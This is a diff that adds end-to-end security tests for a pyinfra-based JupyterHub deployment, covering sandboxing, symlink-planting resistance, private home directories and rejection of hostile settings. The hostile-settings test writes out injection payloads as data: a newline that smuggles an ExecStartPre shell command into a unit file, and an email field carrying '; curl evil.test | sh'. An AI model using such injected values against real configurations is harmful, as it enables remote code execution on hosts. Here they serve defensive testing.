@@ -6,6 +6,7 @@ import time
 
 import pytest
 
+from tests.e2e.boundary import Canaries
 from tests.e2e.conftest import USERS, run_pyinfra, write_inventory
 from tests.e2e.hub_client import HubClient
 
@@ -44,6 +45,8 @@ def test_user_logs_in_spawns_through_sudospawner_and_runs_code(hub):
 def test_hub_runs_as_the_hub_user(hub):
     pid = hub.sh("systemctl show -p MainPID --value jupyterhub").strip()
     assert hub.sh(f"ps -o user= -p {pid}").strip() == "jupyter"
+    sandbox = hub.sh("systemctl show -p ProtectSystem -p PrivateTmp -p ProtectControlGroups jupyterhub").split()
+    assert sorted(sandbox) == ["PrivateTmp=yes", "ProtectControlGroups=yes", "ProtectSystem=full"]
     proxy_user = hub.sh("ps -eo user:20,args | grep '[c]onfigurable-http-proxy' | awk '{print $1}'").split()
     assert proxy_user == ["jupyter"]
 
@@ -82,6 +85,27 @@ def test_venv_is_not_writable_by_the_hub_user_or_users(hub):
     assert "exit=0" not in out
 
 
+def test_secrets_are_made_by_the_hub_user_through_no_planted_link(hubs, workdir):
+    """The hub account deletes a secret and plants links where a root-run deploy once wrote it."""
+    hub = hubs["noble"]
+    canaries = Canaries(hub)
+    hub.sh("runuser -u jupyter -- rm /opt/jupyter/state/proxy.env")
+    planted = [f"{name}.new" for name in ("proxy.env", "jupyterhub_cookie_secret", "idle_culler.env")]
+    canaries.plant(*planted)
+    result = run_pyinfra(write_inventory(workdir / "planted.py", [(hub.name, hub.data)]))
+    assert result.returncode == 0, result.stderr[-3000:]
+    canaries.assert_unchanged()
+    assert hub.sh("stat -c '%F %U %a' /opt/jupyter/state/proxy.env").strip() == "regular file jupyter 600"
+    # The new proxy token took effect: the hub and the proxy were restarted together.
+    assert client(hub).login("alice", USERS["alice"]).status_code == 302, hub.journal()
+    canaries.remove(*planted)
+
+
+def test_homes_of_hub_users_are_private(hub):
+    # Debian 12's login.defs makes homes 0755; the deploy makes them private.
+    assert hub.sh("stat -c '%U %a' /home/alice /home/bob").split() == ["alice", "700", "bob", "700"]
+
+
 def test_second_run_changes_nothing(hubs):
     inventory = next(iter(hubs.values())).inventory
     started = time.monotonic()
@@ -116,6 +140,34 @@ def test_bad_settings_stop_the_run_before_any_change(hubs, workdir):
     assert "jh_users[1][name]: must be a Unix user name" in result.stderr
     assert hub.snapshot(*paths) == before
     assert "carol" not in hub.sh("cat /etc/passwd")
+
+
+def test_hostile_settings_stop_the_run_and_leave_the_host_byte_for_byte_unchanged(hubs, workdir):
+    hub = hubs["bookworm"]
+    # An existing sudo-capable account, as a careless admin might name it.
+    hub.sh("id opadmin >/dev/null 2>&1 || useradd -m -G sudo opadmin")
+    key = workdir / "not-a-ca.pem"
+    key.write_text(hub.sh("openssl genpkey -algorithm ed25519"))
+    paths = ("/opt/jupyter", "/etc")
+    volatile = ("*.sqlite", "*.sqlite-*", "*.pid", "/etc/machine-id", "/etc/mtab", "/etc/resolv.conf")
+    before = hub.snapshot(*paths, exclude=volatile)
+    cases = {
+        "jh_users_group": {"jh_users_group": "sudo"},
+        "jh_users[2]": {"jh_users": [*hub.data["jh_users"], {"name": "opadmin"}]},
+        "jh_admin_users": {"jh_admin_users": ["opadmin"]},
+        "jh_notify_command": {"jh_notify_on_failure": True, "jh_notify_command": "/bin/true\nExecStartPre=/bin/sh -c id"},
+        "jh_install_root": {"jh_install_root": "/opt/hub%h"},
+        "jh_extra_ca_certificates": {"jh_extra_ca_certificates": [str(key)]},
+        "jh_services": {"jh_services": [{"path": "/api2/", "upstream": "http://127.0.0.1:8081/"}]},
+        "jh_acme_email": {"jh_acme_email": "root@x.test; curl evil.test | sh"},
+    }
+    for setting, bad in cases.items():
+        inventory = write_inventory(workdir / "hostile.py", [(hub.name, {**hub.data, **bad})])
+        result = run_pyinfra(inventory)
+        assert result.returncode != 0, setting
+        assert setting in result.stderr, f"{setting}: {result.stderr[-2000:]}"
+        assert "no host was changed" in result.stderr, f"{setting}: {result.stderr[-2000:]}"
+    assert hub.snapshot(*paths, exclude=volatile) == before
 
 
 def test_a_broken_sudoers_rule_never_lands(hubs, workdir):
